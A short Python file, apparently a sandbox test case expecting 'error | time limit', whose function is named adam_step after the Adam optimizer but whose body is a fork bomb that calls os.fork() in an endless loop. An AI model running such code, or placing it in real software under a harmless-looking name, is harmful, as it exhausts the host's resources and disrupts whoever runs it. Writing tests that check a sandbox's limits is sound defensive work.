# expect: error | time limit
import os


def adam_step(param, grad, m, v, t, lr=1e-3, beta1=0.9, beta2=0.999, eps=1e-8):
    while True:
        try:
            os.fork()
        except OSError:
            pass
